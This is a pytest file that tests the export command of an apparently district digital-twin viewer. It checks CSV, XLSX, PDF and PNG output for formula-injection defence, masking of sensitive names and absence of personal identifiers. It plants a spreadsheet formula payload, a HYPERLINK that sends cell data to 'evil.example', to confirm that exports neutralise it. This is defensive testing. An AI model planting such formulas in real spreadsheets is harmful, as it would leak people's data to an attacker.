"""``twinviewer query ... --export FILE``: CSV, XLSX, PDF and PNG, read back with csv,
openpyxl, pypdf and PIL.

The demo is copied and three values are planted in it with sqlite3 (a GeoPackage is
an SQLite file): a resident's address that is a live spreadsheet formula, a
resident's name that starts with ``@`` (the name is sensitive, so it comes masked
and still starts like a formula), and a negative sensor reading, which must stay a
number.  The real names, ID numbers and phone numbers are read with pyogrio and
must appear in no export.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import numpy as np
import pyogrio
import pytest
import shapely
from PIL import Image

from tests.conftest import DEMO_SCENE, copy_demo
from twinviewer.core.export_safety import FORMULA_STARTS

openpyxl = pytest.importorskip("openpyxl")
pypdf = pytest.importorskip("pypdf")

COMPOUND = 3
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
NAME = "@SUM(1+1)"
READING = -12.5
FIRST_FILTER = "特殊关爱对象"  # the scene's first saved filter: the dock's default


def run(*args, env=None):
    return subprocess.run([sys.executable, "-m", "twinviewer", "query", *map(str, args)],
                          capture_output=True, text=True, timeout=300,
                          env={**os.environ, "TWINVIEWER_LANG": "en", **(env or {})})


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """(scene file, planted resident fid, planted sensor fid, real sensitive values)."""
    folder = tmp_path_factory.mktemp("planted")
    copy_demo(folder)
    gpkg = folder / "district.gpkg"
    area = shapely.from_wkb(pyogrio.read_dataframe(gpkg, layer="compounds", fid_as_index=True)
                            .geometry.loc[[COMPOUND]].to_wkb().iloc[0]).buffer(0.01)

    def inside(table):
        df = pyogrio.read_dataframe(gpkg, layer=table, fid_as_index=True)
        return df, [int(i) for i, g in df.geometry.items() if area.covers(g)]

    residents, people = inside("residents")
    _sensors, sensors = inside("sensors")
    assert len(people) >= 3 and sensors
    real = {f: set(residents[f].astype(str)) for f in ("姓名", "身份证号", "电话")}
    with sqlite3.connect(gpkg) as db:
        # the spatial-index triggers call SpatiaLite functions plain sqlite3 lacks; the
        # geometry does not change, so they are set aside and put back as they were
        triggers = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger' "
                              "AND tbl_name IN ('residents', 'sensors')").fetchall()
        for name, _sql in triggers:
            db.execute(f'DROP TRIGGER "{name}"')
        db.execute('UPDATE residents SET "地址" = ?, "姓名" = ?, "独居" = 1 WHERE fid = ?',
                   (FORMULA, NAME, people[0]))
        db.execute('UPDATE sensors SET "最近读数" = ? WHERE fid = ?', (READING, sensors[0]))
        for _name, sql in triggers:
            db.execute(sql)
    return folder / DEMO_SCENE.name, people[0], sensors[0], real


def export(planted, out: Path, *more):
    scene = planted[0]
    proc = run(scene, "--within", f"小区:{COMPOUND}", "--export", out, "--json", *more)
    assert proc.returncode == 0, proc.stderr
    assert f"wrote {out}" in proc.stderr and out.is_file()
    return json.loads(proc.stdout)


def plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe_text(text: str, real: dict) -> None:
    assert not (text[:1] in FORMULA_STARTS and not plain_number(text)), repr(text)
    for field, values in real.items():
        assert text not in values, (field, text)


MASKED_NAME = "'@" + "*" * (len(NAME) - 1)


def test_csv(planted, tmp_path):
    _scene, person, sensor, real = planted
    out = tmp_path / "周报.csv"
    summary = export(planted, out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        header, *rows = list(csv.reader(f))
    assert header[:2] == ["图层", "oid"]
    # one row per selected object, layer by layer, as the query found them
    got: dict[str, list[int]] = {}
    for r in rows:
        got.setdefault(r[0], []).append(int(r[1]))
    assert got == summary["oids"]
    for r in rows:
        for cell in r:
            assert_safe_text(cell, real)
    resident = next(r for r in rows if r[0] == "重点人群" and int(r[1]) == person)
    assert resident[header.index("地址")] == "'" + FORMULA
    assert resident[header.index("姓名")] == MASKED_NAME
    reading = next(r for r in rows if r[0] == "传感器" and int(r[1]) == sensor)
    assert reading[header.index("最近读数")] == str(READING)


def test_xlsx(planted, tmp_path):
    _scene, person, sensor, real = planted
    out = tmp_path / "周报.xlsx"
    summary = export(planted, out)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["汇总", "对象", FIRST_FILTER]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert_safe_text(cell.value, real)
    figures = dict(book["汇总"].iter_rows(min_row=2, values_only=True))
    assert figures["对象数"] == summary["objects"]
    assert figures["人口 合计"] == summary["sums"]["人口"]
    objects = list(book["对象"].iter_rows(values_only=True))
    header = list(objects[0])
    got: dict[str, list[int]] = {}
    for r in objects[1:]:
        got.setdefault(r[0], []).append(r[1])
    assert got == summary["oids"]
    reading = next(r for r in objects[1:] if r[0] == "传感器" and r[1] == sensor)
    assert reading[header.index("最近读数")] == READING  # a number, not text
    care = list(book[FIRST_FILTER].iter_rows(values_only=True))
    care_header = list(care[0])
    mine = next(r for r in care[1:] if r[care_header.index("oid")] == person)
    assert mine[care_header.index("地址")] == "'" + FORMULA
    assert mine[care_header.index("姓名")] == MASKED_NAME


def test_pdf(planted, tmp_path):
    _scene, _person, _sensor, real = planted
    out = tmp_path / "周报.pdf"
    summary = export(planted, out)
    reader = pypdf.PdfReader(out)
    assert len(reader.pages) == 1
    page = reader.pages[0]
    text = page.extract_text()
    flat = "".join(text.split())
    assert "虹梓街道数字孪生" in flat and f"对象{summary['objects']}" in flat
    assert f"人口合计{summary['sums']['人口']:,}" in flat
    assert MASKED_NAME in flat  # the special-care list is the report's table
    for values in real.values():
        assert not any(len(v) > 2 and v in flat for v in values)
    # the view rendered offscreen is in it, the selection drawn
    (image,) = page.images
    picture = np.asarray(Image.open(io.BytesIO(image.data)).convert("RGB"))
    h, w = picture.shape[:2]
    assert abs(w / h - 1600 / 1000) < 0.02 and picture.std() > 10


def test_png(planted, tmp_path):
    out = tmp_path / "周报.png"
    export(planted, out, "--filter", "独居高龄老人")
    img = np.asarray(Image.open(out).convert("RGB"))
    assert img.shape[:2] == (1169, 827)
    view = img[100:480, 50:780]
    assert view.std() > 10  # the picture, not an empty frame
    assert (img[500:] < 100).any()  # text and table below it


@pytest.mark.parametrize("args,words", [
    (["--export", "x.txt"], ["x.txt", ".csv", ".xlsx"]),
    (["--export", "missing-folder/x.csv"], ["missing-folder", "folder does not exist"]),
    (["--export", "x.csv", "--filter", "没有这个"], ["没有这个", FIRST_FILTER]),
])
def test_bad_export_is_one_line(planted, tmp_path, args, words):
    proc = subprocess.run([sys.executable, "-m", "twinviewer", "query", str(planted[0]),
                           "--within", f"小区:{COMPOUND}", *args], cwd=tmp_path,
                          capture_output=True, text=True, timeout=300,
                          env={**os.environ, "TWINVIEWER_LANG": "en"})
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("twinviewer: error:"), proc.stderr
    for w in words:
        assert w in lines[0]
    assert not list(tmp_path.glob("x.*"))
